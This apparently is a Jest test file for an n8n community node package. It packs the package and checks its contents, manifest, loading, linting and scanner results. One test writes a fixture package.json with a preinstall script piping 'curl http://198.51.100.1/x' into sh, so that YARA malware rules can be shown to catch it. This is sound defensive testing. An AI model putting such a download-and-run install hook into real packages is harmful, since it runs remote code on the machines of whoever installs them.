import { execFileSync, spawnSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadPackage } from '../../engine/nodeTypes.ts';
import { runNode } from '../../engine/execution.ts';
import { startServer } from '../../support/server.ts';
import { BY_URL } from '../../support/document-node.ts';

const ROOT = join(__dirname, '../../..');

interface Manifest {
  name: string;
  dependencies?: object;
  peerDependencies: object;
  scripts: Record<string, string>;
  devDependencies: Record<string, string>;
  keywords: string[];
  files: string[];
  n8n: { nodes: string[]; credentials: string[] };
  [member: string]: unknown;
}

// The linter's plugins behave otherwise in a test, which they know by these.
// n8n-node sets FORCE_COLOR, beside which Node warns of NO_COLOR.
const { NODE_ENV: _env, JEST_WORKER_ID: _id, NO_COLOR: _color, ...env } = process.env;

let folder: string;
let tarball: string;
let unpacked: string;
let packed: string[];
let manifest: Manifest;

/** Writes the tree that is published, builds it and packs it; returns the tarball. */
function publish(name: string): string {
  const tree = join(folder, name);
  execFileSync(process.execPath, ['scripts/publication.mjs', tree], { cwd: ROOT, stdio: 'pipe' });
  symlinkSync(join(ROOT, 'node_modules'), join(tree, 'node_modules'));
  execFileSync('npm', ['run', 'build'], { cwd: tree, env, stdio: 'pipe' });
  return pack(tree);
}

/** Packs the package in a folder into that of the tests. */
function pack(source: string): string {
  const into = mkdtempSync(join(folder, 'tarball-'));
  execFileSync('npm', ['pack', '--ignore-scripts', '--silent', '--pack-destination', into], {
    cwd: source,
    stdio: 'pipe',
  });
  return join(into, readdirSync(into)[0] ?? '');
}

function unpack(tarball: string): string {
  const into = mkdtempSync(join(folder, 'unpacked-'));
  execFileSync('tar', ['-xzf', tarball, '-C', into, '--strip-components=1']);
  return into;
}

const filesIn = (place: string): string[] =>
  readdirSync(place, { recursive: true, encoding: 'utf8' })
    .filter((file) => statSync(join(place, file)).isFile())
    .sort();

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'packed-'));
  // What n8n gives every community package.
  symlinkSync(join(ROOT, 'node_modules'), join(folder, 'node_modules'));
  tarball = publish('tree');
  unpacked = unpack(tarball);
  packed = filesIn(unpacked);
  manifest = JSON.parse(readFileSync(join(unpacked, 'package.json'), 'utf8')) as Manifest;
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const scripts = () => packed.filter((file) => file.endsWith('.js'));

test('the package is dist, its manifest and its documents, and nothing else', () => {
  const others = packed.filter((file) => !file.startsWith('dist/'));
  expect(others).toContain('package.json');
  expect(
    others.filter((file) => !/^(package\.json|index\.js|README\.md|LICENSE(\.md)?|CHANGELOG\.md)$/.test(file)),
  ).toEqual([]);
  expect(packed.filter((file) => /test|\.map$|\.tsbuildinfo$|tsconfig|sandbox|\.env/.test(file))).toEqual([]);
  expect(packed.filter((file) => !/\.(js|json|svg|md)$/.test(file))).toEqual([]);
});

test('a second tree gives the same tarball to the byte', () => {
  expect(readFileSync(publish('second')).equals(readFileSync(tarball))).toBe(true);
});

test('the whole repository packs the same files to the byte, but for the manifest of all its parts', () => {
  const whole = unpack(pack(ROOT));
  expect(filesIn(whole)).toEqual(packed);
  const differs = (file: string): boolean =>
    !readFileSync(join(whole, file)).equals(readFileSync(join(unpacked, file)));
  expect(packed.filter(differs)).toEqual(['package.json']);
  const { workspaces: _workspaces, ...own } = JSON.parse(readFileSync(join(whole, 'package.json'), 'utf8')) as Manifest;
  const [{ scripts: all, devDependencies: tools, ...rest }, { scripts, devDependencies, ...published }] = [
    own,
    manifest,
  ];
  expect(published).toEqual(rest);
  expect(tools).toMatchObject(devDependencies);
  expect(Object.keys(all)).toEqual(expect.arrayContaining(Object.keys(scripts)));
});

test('the tree holds one package, and what its lock file lists is what this repository is built with', () => {
  const tree = join(folder, 'tree');
  const files = filesIn(tree).filter((file) => !/^(node_modules|dist)\b/.test(file));
  expect(files.filter((file) => file.endsWith('package.json'))).toEqual(['package.json']);
  const entriesOf = (place: string) =>
    (JSON.parse(readFileSync(join(place, 'package-lock.json'), 'utf8')) as { packages: Record<string, object> })
      .packages;
  const { '': own, ...installed } = entriesOf(tree);
  expect(own).toMatchObject({ devDependencies: manifest.devDependencies });
  expect(Object.keys(installed)).toContain('node_modules/typescript');
  const versionsIn = (entries: Record<string, object>) =>
    Object.fromEntries(Object.keys(installed).map((path) => [path, (entries[path] as { version: string }).version]));
  expect(versionsIn(installed)).toEqual(versionsIn(entriesOf(ROOT)));
});

test('the package is small', () => {
  expect(statSync(tarball).size).toBeLessThan(200_000);
});

test("the README's command to install it brings nothing beside it that would take the place of n8n's own packages", () => {
  const [command = ''] = /npm install [^`]*(?=<the .tgz>)/.exec(readFileSync(join(ROOT, 'README.md'), 'utf8')) ?? [];
  const nodes = mkdtempSync(join(tmpdir(), 'nodes-'));
  execFileSync('sh', ['-c', `${command} --offline "$0"`, tarball], { cwd: nodes, env, stdio: 'pipe' });
  const installed = readdirSync(join(nodes, 'node_modules')).filter((name) => !name.startsWith('.'));
  expect(installed).toEqual(['n8n-nodes-document-processing']);
  rmSync(nodes, { recursive: true, force: true });
});

test('the manifest is what n8n asks of a verified package', () => {
  expect(manifest).toMatchObject({
    name: 'n8n-nodes-document-processing',
    license: 'MIT',
    peerDependencies: { 'n8n-workflow': '*' },
    files: ['dist'],
    n8n: { n8nNodesApiVersion: 1, strict: true },
    author: { name: expect.stringMatching(/./), email: expect.stringMatching(/@/) },
    repository: { url: expect.stringMatching(/^git\+https:\/\/github\.com\//) },
  });
  expect(Object.keys(manifest.dependencies ?? {})).toEqual([]);
  expect(manifest['overrides']).toBeUndefined();
  expect(Object.keys(manifest.scripts).filter((name) => /^(prepare|(pre|post)?install)$/.test(name))).toEqual([]);
  expect(manifest.keywords).toContain('n8n-community-node-package');
  expect(JSON.stringify(manifest)).not.toMatch(/<[a-z ]+>|\{\{/i);
});

test('every file of the manifest is packed, and every node that is packed is in the manifest', () => {
  const listed = [...manifest.n8n.nodes, ...manifest.n8n.credentials];
  expect(listed.filter((file) => !packed.includes(file))).toEqual([]);
  expect(
    scripts()
      .filter((file) => /\.(node|credentials)\.js$/.test(file))
      .sort(),
  ).toEqual([...listed].sort());
});

test("n8n's own loader loads it, with icons, and what it loads works", async () => {
  const loaded = await loadPackage(unpacked);
  const type = `${manifest.name}.documentProcessing`;
  expect(Object.keys(loaded.nodeTypes)).toContain(type);
  expect(Object.keys(loaded.nodeTypes)).toHaveLength(manifest.n8n.nodes.length);
  expect(Object.keys(loaded.credentialTypes)).toEqual(['documentProcessingApi']);
  const node = loaded.nodeTypes[type]!;
  expect(node.description).toMatchObject({
    iconUrl: { light: expect.stringMatching(/\.svg$/), dark: expect.stringMatching(/\.dark\.svg$/) },
    codex: { categories: expect.arrayContaining(['Productivity']) },
  });
  const server = await startServer(() => ({ result: [{ type: 'x', fields: [{ name: 'a', value: 'b' }] }] }));
  const credentials = [
    { type: loaded.credentialTypes['documentProcessingApi']!, data: { baseUrl: server.url, accessToken: 'packed' } },
  ];
  const run = await runNode(node, { parameters: BY_URL, credentials });
  expect(run.items).toMatchObject([{ json: { type: 'x', fields: { a: 'b' } } }]);
  expect(server.requests[0]?.headers.authorization).toBe('Bearer packed');
  await server.close();
});

test('what runs the nodes is not loaded with their descriptions, which n8n loads when it starts', () => {
  const files = [...manifest.n8n.nodes, ...manifest.n8n.credentials].map((file) => join(unpacked, file));
  const script = 'process.argv.slice(1).forEach(require); console.log(Object.keys(require.cache).join("\\n"))';
  const loaded = execFileSync(process.execPath, ['-e', script, ...files], {
    env: { ...env, NODE_PATH: join(ROOT, 'node_modules') },
    encoding: 'utf8',
  });
  expect(loaded).toContain('/DocumentProcessing/parameters/');
  expect(loaded).not.toMatch(
    /\/DocumentProcessing\/(?:execution\/|billing\/outputs|callback\/(?:received|trigger|waiting|webhook)\.js)/,
  );
});

/** The command-line tools with which n8n checks a package, a project of their own. */
const TOOLS = join(ROOT, 'test/verification/node_modules');

/** What n8n looks at of the source. */
function sourceOfPackage(): string {
  const source = mkdtempSync(join(folder, 'source-'));
  const isOfTree = (path: string): boolean => !/\/tree\/(node_modules|dist)$/.test(path);
  cpSync(join(folder, 'tree'), source, { recursive: true, filter: isOfTree });
  symlinkSync(TOOLS, join(source, 'node_modules'));
  return source;
}

const BAD = 'export const wait = (): void => void setTimeout(() => undefined, Number(process.env.WAIT));\n';

test("n8n's scanner finds nothing in the source and in what is packed, and something where there is", () => {
  const bad = sourceOfPackage();
  writeFileSync(join(bad, 'nodes/DocumentProcessing/common/wait.ts'), BAD);
  const output = execFileSync(
    process.execPath,
    ['--input-type=module', '-e', SCAN, '--', TOOLS, sourceOfPackage(), unpacked, bad],
    { encoding: 'utf8', stdio: 'pipe', env },
  );
  expect(JSON.parse(output)).toEqual([
    { passed: true },
    { passed: true },
    expect.objectContaining({ passed: false, details: expect.stringMatching(/no-restricted-globals/) }),
  ]);
});

// Its command does the same with what it downloads from npm and GitHub.
const SCAN = `
const [tools, source, packed, bad] = process.argv.slice(1);
const { analyzePackage, SOURCE_FILE_PATTERNS } = await import(tools + '/@n8n/scan-community-package/scanner/scanner.mjs');
const results = [
  await analyzePackage(source, SOURCE_FILE_PATTERNS),
  await analyzePackage(packed, ['**/*.js', 'package.json']),
  await analyzePackage(bad, SOURCE_FILE_PATTERNS),
];
console.log(JSON.stringify(results));
`;

/** The `.yar` files that n8n's newest scanner has in its repository and no package of this registry: release.yml gets them. */
const MALWARE_RULES = process.env['MALWARE_RULES'];

(MALWARE_RULES ? test : test.skip)(
  'no rule of malware finds a threat in what is packed, and one where there is',
  () => {
    const bad = mkdtempSync(join(folder, 'bad-'));
    writeFileSync(join(bad, 'package.json'), '{ "scripts": { "preinstall": "curl http://198.51.100.1/x | sh" } }');
    const output = execFileSync(
      process.execPath,
      ['--input-type=module', '-e', MALWARE_SCAN, '--', TOOLS, MALWARE_RULES ?? '', unpacked, bad],
      { encoding: 'utf8', stdio: 'pipe', env },
    );
    expect(JSON.parse(output)).toEqual([[], expect.arrayContaining(['package.json threat_npm_preinstall_script'])]);
  },
);

// A rule says in its metadata which files it is for, by patterns for the paths in a tarball. A rule that is no threat says
// what code is able to do.
const MALWARE_SCAN = `
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
const [tools, rules, ...places] = process.argv.slice(1);
const yara = join(tools, '@virustotal/yara-x/pkg');
const { default: init, Compiler } = await import(join(yara, 'yara_x_js.js'));
await init({ module_or_path: readFileSync(join(yara, 'yara_x_js_bg.wasm')) });
const compiler = new Compiler();
const textOf = (file) => readFileSync(join(rules, file), 'utf8');
for (const file of readdirSync(rules).filter((name) => name.endsWith('.yar')))
  compiler.addSource(textOf(file).replace(/^include\\s+"([^"]+)"\\s*$/gm, (_, name) => textOf(name)));
const compiled = compiler.build();
const isLike = (path) => (pattern) =>
  new RegExp('^' + pattern.trim().split('*').map((part) => RegExp.escape(part)).join('.*') + '$').test(path);
const isFor = ({ metadata }, path) => {
  const { path_include: included, path_exclude: excluded } =
    Object.fromEntries(metadata.map(({ identifier, value }) => [identifier, value]));
  const isAny = (patterns) => patterns.split(',').some(isLike(path));
  return (!included || isAny(included)) && !(excluded && isAny(excluded));
};
const threatsIn = (place) =>
  readdirSync(place, { recursive: true })
    .filter((file) => statSync(join(place, file)).isFile())
    .flatMap((file) =>
      compiled
        .scan(readFileSync(join(place, file)))
        .matches.filter((match) => match.identifier.startsWith('threat_') && isFor(match, 'package/' + file))
        .map(({ identifier }) => file + ' ' + identifier));
console.log(JSON.stringify(places.map(threatsIn)));
`;

const lint = (source: string) =>
  spawnSync(process.execPath, [join(TOOLS, '@n8n/node-cli/bin/n8n-node.mjs'), 'lint'], {
    cwd: source,
    encoding: 'utf8',
    env,
  });

test('n8n-node lint finds nothing, and takes our configuration for its own, as n8n.strict says', () => {
  const { status, stdout, stderr } = lint(sourceOfPackage());
  expect([status, stdout, stderr]).toEqual([0, expect.not.stringContaining('violation'), '']);
  const changed = sourceOfPackage();
  writeFileSync(join(changed, 'eslint.config.mjs'), 'export default [];\n');
  expect(lint(changed)).toMatchObject({ status: 1, stdout: expect.stringContaining('Strict mode violation') });
});

const NODE_20 = '/usr/bin/node';
const versionOf = (binary: string) => (existsSync(binary) ? execFileSync(binary, ['-v'], { encoding: 'utf8' }) : '');

(versionOf(NODE_20).startsWith('v20.') ? test : test.skip)('what is packed can be required by Node 20', () => {
  const script = [...manifest.n8n.nodes, ...manifest.n8n.credentials]
    .map((file) => `console.log(typeof new (Object.values(require(${JSON.stringify(join(unpacked, file))}))[0])())`)
    .join(';');
  const output = execFileSync(NODE_20, ['-e', script], { encoding: 'utf8', stdio: 'pipe' });
  expect(output.trim().split('\n')).toEqual(Array(manifest.n8n.nodes.length + 1).fill('object'));
});
